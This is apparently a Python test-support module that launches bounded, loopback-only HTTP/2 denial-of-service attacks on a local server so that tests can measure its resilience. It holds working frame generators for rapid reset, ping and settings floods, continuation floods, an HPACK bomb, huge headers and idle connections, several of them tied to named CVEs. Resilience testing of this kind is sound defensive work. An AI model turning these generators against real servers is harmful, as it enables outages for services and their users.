"""HTTP/2 connections of callers without a token: floods of frames, idle connections, calls that never end.

Each attack is a process of its own, so that a test can measure other callers meanwhile, and ends by itself
after the seconds that it is given. It is bounded: see `Attack`. It knows the loopback address only.

    async with attacking(server.port, "rapid reset", connections=2, seconds=4.0) as attack:
        ...  # call the server
        sent = await attack.ended()
"""

import asyncio
import itertools
import json
import select
import socket
import sys
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from contextlib import asynccontextmanager, suppress
from dataclasses import asdict, dataclass
from types import MappingProxyType

from tests.support.half_messages import send_half_messages
from tests.support.http2_frames import (
    CONTINUATION,
    END_HEADERS,
    FRAME_BYTES_MAX,
    HEADERS,
    PING,
    SETTINGS,
    frame,
    greeting,
    header_block,
    hpack_text,
    indexed_headers,
    reset,
    settings_ack,
    split_headers,
)

PATH = "/batchprogress.v1.ProgressService/ReportJobResult"
BURST_FRAMES = 1_000
"""Frames that are made at a time."""
SECONDS_MAX = 60.0
"""No attack lasts longer, whatever it was told."""
CONNECTIONS_MAX = 10_000
RECONNECTIONS_MAX = 1_000
"""How often one attacker comes back after the server has cut it off."""
HUGE_HEADER_BYTES = 2**20
BOMB_ENTRY_BYTES = 4_000
"""With its name it nearly fills the table of 4,096 bytes that every server offers."""
BOMB_REFERENCES = 16_000
"""Each is one byte, and stands for an entry."""
READ_BYTES = 2**16
_START = greeting() + settings_ack()


@dataclass(frozen=True, slots=True)
class Sent:
    """What an attack has sent."""

    connections: int
    bytes: int
    is_cut_off: bool = False
    """Of HALF_MESSAGES: whether the server has closed the connection."""


class Attack:
    """A running attack.

    Args:
        process: started with its report on a pipe.

    """

    def __init__(self, process: asyncio.subprocess.Process) -> None:
        self._process = process

    async def ended(self) -> Sent:
        """Wait until the attack has ended by itself."""
        out, _ = await self._process.communicate()
        assert self._process.returncode == 0, "the attack failed, see its error above"
        return Sent(**json.loads(out))

    def kill(self) -> None:
        """End the attack: its connections are reset."""
        if self._process.returncode is None:
            self._process.kill()


@asynccontextmanager
async def attacking(port: int, name: str, *, connections: int = 1, seconds: float) -> AsyncIterator[Attack]:
    """Attack a server of this machine; at the end of the context the attack is killed.

    Args:
        port: the server's.
        name: one of ATTACKS.
        connections: how many at a time; of HALF_MESSAGES, how many messages on one connection.
        seconds: after which the attack ends by itself.

    """
    assert name in ATTACKS, f"attacks are {', '.join(ATTACKS)}"
    arguments = [str(port), name, str(connections), str(seconds)]
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", __name__, *arguments, stdout=asyncio.subprocess.PIPE
    )
    attack = Attack(process)
    try:
        yield attack
    finally:
        attack.kill()
        await process.wait()


def rapid_reset() -> Iterator[bytes]:
    """Start calls and cancel each at once (CVE-2023-44487)."""
    first, later = indexed_headers(PATH)
    yield _START + frame(HEADERS, END_HEADERS, first) + reset(1)
    for burst in _stream_ids():
        yield b"".join(
            frame(HEADERS, END_HEADERS, later, stream_id=number) + reset(number) for number in burst
        )


def open_calls() -> Iterator[bytes]:
    """Start calls that send no message, and never cancel them."""
    first, later = indexed_headers(PATH)
    yield _START + frame(HEADERS, END_HEADERS, first)
    for burst in _stream_ids():
        yield b"".join(frame(HEADERS, END_HEADERS, later, stream_id=number) for number in burst)


def ping_flood() -> Iterator[bytes]:
    """Ask for an answer to each of many pings (CVE-2019-9512)."""
    yield _START
    yield from itertools.repeat(frame(PING, 0, bytes(8), stream_id=0) * BURST_FRAMES)


def settings_flood() -> Iterator[bytes]:
    """Ask for an acknowledgement of each of many settings (CVE-2019-9515)."""
    yield _START
    yield from itertools.repeat(frame(SETTINGS, 0, b"", stream_id=0) * BURST_FRAMES)


def continuation_flood() -> Iterator[bytes]:
    """Send headers that never end (CVE-2024-27316)."""
    yield _START + frame(HEADERS, 0, header_block(PATH))
    line = b"\0" + hpack_text("x-flood") + hpack_text("y" * 1_000)
    lines = line * (FRAME_BYTES_MAX // len(line))
    yield from itertools.repeat(frame(CONTINUATION, 0, lines) * 4)


def empty_continuations() -> Iterator[bytes]:
    """Send frames of headers without a byte in them."""
    yield _START + frame(HEADERS, 0, header_block(PATH))
    yield from itertools.repeat(frame(CONTINUATION, 0, b"") * BURST_FRAMES)


def huge_headers() -> Iterator[bytes]:
    """Start calls with a header of 1 MiB each."""
    yield _START
    block = header_block(PATH) + b"\0" + hpack_text("x-huge") + hpack_text("y" * HUGE_HEADER_BYTES)
    for number in itertools.chain.from_iterable(_stream_ids()):
        yield split_headers(block, number)


def hpack_bomb() -> Iterator[bytes]:
    """Fill the server's table with one large header, and refer to it many times in each call."""
    entry = b"\x40" + hpack_text("x-bomb") + hpack_text("y" * BOMB_ENTRY_BYTES)
    yield _START + frame(HEADERS, END_HEADERS, entry + header_block(PATH))
    block = header_block(PATH) + b"\xbe" * BOMB_REFERENCES  # the newest entry
    for number in itertools.chain.from_iterable(_stream_ids()):
        yield split_headers(block, number) + reset(number)


def idle() -> Iterator[bytes]:
    """Send nothing."""
    yield b""


def idle_after_greeting() -> Iterator[bytes]:
    """Send what every HTTP/2 client begins with, then nothing."""
    yield _START


FLOODS: Mapping[str, Callable[[], Iterator[bytes]]] = MappingProxyType(
    {
        "rapid reset": rapid_reset,
        "open calls": open_calls,
        "ping": ping_flood,
        "settings": settings_flood,
        "continuation": continuation_flood,
        "empty continuation": empty_continuations,
        "huge headers": huge_headers,
        "hpack bomb": hpack_bomb,
        "idle": idle,
        "idle after greeting": idle_after_greeting,
    }
)
HELD = (idle, idle_after_greeting)
HALF_MESSAGES = "half-sent messages"
"""Of these, `connections` is the number of messages, on one connection."""
ATTACKS = (*FLOODS, HALF_MESSAGES)


class _Attackers:
    """Several connections that do the same until a deadline."""

    def __init__(self, port: int, flood: Callable[[], Iterator[bytes]], seconds: float) -> None:
        self._port = port
        self._flood = flood
        self._deadline = time.monotonic() + min(seconds, SECONDS_MAX)
        self._lock = threading.Lock()
        self._connections = 0
        self._bytes = 0

    def run(self, connections: int) -> Sent:
        """Attack with several connections, each of a thread of its own."""
        threads = [threading.Thread(target=self._attack) for _ in range(connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return Sent(self._connections, self._bytes)

    def hold(self, connections: int) -> Sent:
        """Hold connections of which each has sent its first bytes only."""
        held = []
        with suppress(OSError):  # no more descriptors, or refused
            for _ in range(connections):
                held.append(socket.create_connection(("127.0.0.1", self._port)))
                held[-1].sendall(next(self._flood()))
        time.sleep(max(0.0, self._deadline - time.monotonic()))
        return Sent(len(held), 0)

    def _attack(self) -> None:
        for _ in range(RECONNECTIONS_MAX):
            if time.monotonic() >= self._deadline:
                return
            with (
                suppress(OSError),  # the server has cut the connection
                socket.create_connection(("127.0.0.1", self._port), timeout=1.0) as connection,
            ):
                with self._lock:
                    self._connections += 1
                self._send(connection)

    def _send(self, connection: socket.socket) -> None:
        """Send until the deadline or until the server closes; answers are read and dropped."""
        connection.settimeout(0)
        bursts, rest = self._flood(), memoryview(b"")
        while (left := self._deadline - time.monotonic()) > 0:
            readable, writable, _ = select.select([connection], [connection], [], left)
            if readable and not connection.recv(READ_BYTES):
                return
            if writable:
                rest = rest or memoryview(next(bursts))
                sent = connection.send(rest)
                rest = rest[sent:]
                with self._lock:
                    self._bytes += sent


def _stream_ids() -> Iterator[range]:
    """Yield the numbers of a client's streams after the first, by bursts."""
    step = 2 * BURST_FRAMES
    return (range(first, first + step, 2) for first in itertools.count(3, step))


def _main(port: str, name: str, connections: str, seconds: str) -> Sent:
    number, duration = min(int(connections), CONNECTIONS_MAX), float(seconds)
    if name == HALF_MESSAGES:
        return Sent(1, *send_half_messages(int(port), number, min(duration, SECONDS_MAX)))
    attackers = _Attackers(int(port), FLOODS[name], duration)
    return attackers.hold(number) if FLOODS[name] in HELD else attackers.run(number)


if __name__ == "__main__":
    sent = _main(*sys.argv[1:])
    sys.stdout.write(json.dumps(asdict(sent)))
